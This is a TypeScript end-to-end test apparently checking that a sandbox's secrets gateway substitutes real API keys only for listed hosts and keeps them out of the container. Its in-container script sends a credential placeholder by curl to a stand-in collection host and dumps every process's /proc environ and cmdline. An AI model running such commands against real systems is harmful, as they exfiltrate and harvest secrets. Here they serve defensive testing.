/**
 * `secrets:` end to end (issue 17): a secret read with `op read` (a stand-in on PATH) reaches a fake
 * Stripe-like HTTPS API as its real value in a header, in the path and in a JSON body; the container (its
 * environment, its files, /proc) holds only the placeholder; a placeholder sent to a host not listed
 * arrives as the placeholder and is traced as refused; `expose: env` puts the real value in the
 * environment, with a warning and an audit entry.
 */
import { createHash, randomBytes } from 'node:crypto';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import type http from 'node:http';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFakeUpstream, type FakeUpstream } from '../fakes/upstream.js';
import { cleanupHome, moat, readMetadata, tempDir, upstreamOverrideEnv, waitFor } from './helpers.js';
import { docker, exportContains, filesContaining, makeWorkspace, requestsTo, runIdOf, waitNetLog, warmImage } from './fixtures/gateway-kit.js';

const BASE62 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const rand62 = (n: number): string => [...randomBytes(n)].map((b) => BASE62[b % 62]).join('');
const STRIPE_KEY = `sk_test_${rand62(40)}`;
const LEGACY = `legacy-${rand62(24)}`;
const OP_BIN = resolve(__dirname, '../fakes/op-bin');

let home: string;
let root: string;
let fake: FakeUpstream;
let env: NodeJS.ProcessEnv;
const bodies: Array<{ path: string; body: string }> = [];

beforeAll(async () => {
  home = await tempDir('secrets-home');
  root = await tempDir('secrets-ws');
  const echoBody = (req: http.IncomingMessage, res: http.ServerResponse): void => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      bodies.push({ path: req.url ?? '', body: Buffer.concat(chunks).toString('utf8') });
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('{"object":"charge"}');
    });
  };
  fake = await startFakeUpstream({ routes: { '/v1/charges': echoBody } });
  env = await upstreamOverrideEnv(root, { 'api.stripe.com': fake.httpsPort, 'elsewhere.moat.test': fake.httpsPort }, [fake.ca.certPem]);
  const items = join(root, 'op-items', 'Dev', 'Stripe');
  await mkdir(items, { recursive: true });
  await writeFile(join(items, 'test-key'), STRIPE_KEY);
  env = {
    ...env,
    PATH: `${OP_BIN}:${process.env.PATH ?? '/usr/bin:/bin'}`,
    FAKE_OP_ITEMS: join(root, 'op-items'),
    FAKE_OP_SIGNED_IN: '1',
    FAKE_OP_ARGV: join(root, 'op-argv'),
    HOST_LEGACY: LEGACY,
  };
  await warmImage(home, await makeWorkspace(root, 'warm'), env);
}, 600_000);

afterAll(async () => {
  await fake?.close();
  await cleanupHome(home, root, [root]);
});

describe('secrets: placeholders in the container, real values only at the gateway, only for their hosts', () => {
  it('op:// secret: real value in a header, the path and a JSON body of api.stripe.com; placeholder elsewhere; nothing in the container', async () => {
    const cwd = await makeWorkspace(
      root,
      'stripe',
      [
        'secrets:',
        '  STRIPE_KEY:',
        '    from: op://Dev/Stripe/test-key',
        '    hosts: [api.stripe.com]',
        '  LEGACY_TOKEN:',
        '    from: env://HOST_LEGACY',
        '    expose: env',
        '',
      ].join('\n'),
    );
    const script = [
      'echo RUN=$MOAT_RUN_ID',
      'echo "KEY=$STRIPE_KEY"',
      'echo "LEGACY_SHA=$(printf %s "$LEGACY_TOKEN" | sha256sum | cut -c1-64)"',
      'curl -sS -o /dev/null -w "hdr=%{http_code}\\n" -H "Authorization: Bearer $STRIPE_KEY" "https://api.stripe.com/v1/customers/$STRIPE_KEY?expand=$STRIPE_KEY"',
      'curl -sS -o /dev/null -w "body=%{http_code}\\n" -H "content-type: application/json" -d "{\\"api_key\\":\\"$STRIPE_KEY\\",\\"amount\\":100}" https://api.stripe.com/v1/charges',
      'curl -sS -o /dev/null -w "else=%{http_code}\\n" -H "Authorization: Bearer $STRIPE_KEY" https://elsewhere.moat.test/collect',
      'echo "PROC=$(for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do cat "$f" 2>/dev/null; echo; done | base64 -w0)"',
    ].join('\n');
    const r = await moat(['run', '--approve-config', '--keep', '--', 'sh', '-c', script], { home, cwd, env });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain('hdr=200');
    expect(r.stdout).toContain('body=200');
    expect(r.stdout).toContain('else=200');
    const id = runIdOf(r.stdout);

    // The container's variable is a placeholder of the same shape.
    const ph = /^KEY=(.*)$/m.exec(r.stdout)?.[1] ?? '';
    expect(ph).toMatch(/^sk_test_[A-Za-z0-9]{40}$/);
    expect(ph).not.toBe(STRIPE_KEY);

    // expose: env — the real value, warned about.
    expect(/^LEGACY_SHA=(.*)$/m.exec(r.stdout)?.[1]).toBe(createHash('sha256').update(LEGACY).digest('hex'));
    expect(r.stderr).toContain('The secret LEGACY_TOKEN is exposed');
    expect(r.stderr).not.toContain(LEGACY);

    // What the fake Stripe received: the real value in the header, the path and the query, the JSON body.
    const customers = requestsTo(fake, 'api.stripe.com').find((q) => q.path.startsWith('/v1/customers/'));
    expect(customers?.headers.authorization).toBe(`Bearer ${STRIPE_KEY}`);
    expect(customers?.path).toBe(`/v1/customers/${STRIPE_KEY}?expand=${STRIPE_KEY}`);
    expect(JSON.parse(bodies.at(-1)?.body ?? '{}')).toEqual({ api_key: STRIPE_KEY, amount: 100 });

    // ATTACK: the placeholder sent to a host not listed is not substituted, and the trace says so.
    const elsewhere = requestsTo(fake, 'elsewhere.moat.test', '/collect');
    expect(elsewhere[0]?.headers.authorization).toBe(`Bearer ${ph}`);
    const lines = await waitNetLog(home, id, 3);
    const refused = lines.find((l) => l.url === 'https://elsewhere.moat.test/collect') as { secretsRefused?: string[] } | undefined;
    expect(refused?.secretsRefused).toEqual(['STRIPE_KEY']);
    const charged = lines.find((l) => l.url === 'https://api.stripe.com/v1/charges') as { secrets?: string[] } | undefined;
    expect(charged?.secrets).toEqual(['STRIPE_KEY']);

    // The audit log names each resolution, substitution and refusal, never a value.
    const auditFile = join(home, 'runs', id, 'audit.jsonl');
    const auditText = await waitFor(
      async () => {
        const t = await readFile(auditFile, 'utf8').catch(() => '');
        return t.includes('"event":"refused"') && t.includes('"event":"substituted"') ? t : undefined;
      },
      15_000,
      'the secret entries in the audit log',
    );
    expect(auditText).toContain('"scheme":"op"');
    expect(auditText).toContain('"event":"refused"');
    expect(auditText).toContain('"event":"substituted"');
    expect(auditText).toContain('"exposed":true');
    expect(auditText).not.toContain(STRIPE_KEY);

    // Not in /proc (environ, cmdline) inside, not in docker inspect, not in the container's filesystem.
    const proc = Buffer.from(/^PROC=(.*)$/m.exec(r.stdout)?.[1] ?? '', 'base64');
    expect(proc.includes(ph)).toBe(true);
    expect(proc.includes(STRIPE_KEY)).toBe(false);
    const meta = await readMetadata(home, id);
    expect(await docker(['inspect', meta.containerId as string])).not.toContain(STRIPE_KEY);
    const exported = await exportContains(meta.containerId as string, [STRIPE_KEY, 'moat-init']);
    expect(exported.found).toEqual(['moat-init']);
    // op read got the reference in argv, never the value; no file of moat's home holds it (the run's
    // encrypted hand-over is removed at the end, and would not hold it in clear text anyway).
    const inRoot = await filesContaining(root, [STRIPE_KEY]);
    expect(inRoot).toHaveLength(1); // the stand-in's own item file, nothing else (its argv log included)
    expect(inRoot[0]).toMatch(/op-items\/Dev\/Stripe\/test-key/);
    expect(await filesContaining(home, [STRIPE_KEY])).toEqual([]);
  }, 120_000);

  it('a secret that cannot be read stops the run before anything is created, with its fix', async () => {
    const cwd = await makeWorkspace(root, 'missing', 'secrets:\n  K:\n    from: op://Dev/Nope/test-key\n    hosts: [api.stripe.com]\n');
    const before = (await docker(['ps', '-aq', '--filter', `label=moat.home=${home}`])).trim();
    const r = await moat(['run', '--approve-config', '--', 'true'], { home, cwd, env });
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain('The secret K (op://Dev/Nope/test-key) cannot be read: the vault "Dev" has no item "Nope".');
    expect(r.stderr).toContain('op item list --vault "Dev"');
    expect((await docker(['ps', '-aq', '--filter', `label=moat.home=${home}`])).trim()).toBe(before);
  }, 60_000);
});
